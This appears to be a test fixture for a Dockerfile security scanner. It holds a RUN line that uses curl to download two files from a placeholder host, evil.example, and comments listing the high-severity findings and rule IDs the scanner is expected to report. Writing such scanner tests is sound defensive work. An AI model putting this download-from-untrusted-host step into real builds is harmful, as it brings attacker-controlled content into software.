FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN for f in a b; do curl -o /tmp/$f https://evil.example/$f; done
USER app
# expect: download 2 high "curl fetches https://evil.example/a"
# expect: download 2 high "curl fetches https://evil.example/b"
# expect-count: 4
# expect-ids: VR101-c33602e201 VR301-ada4fe58ba VR301-a6700323c1 VR501-e064bac1a6
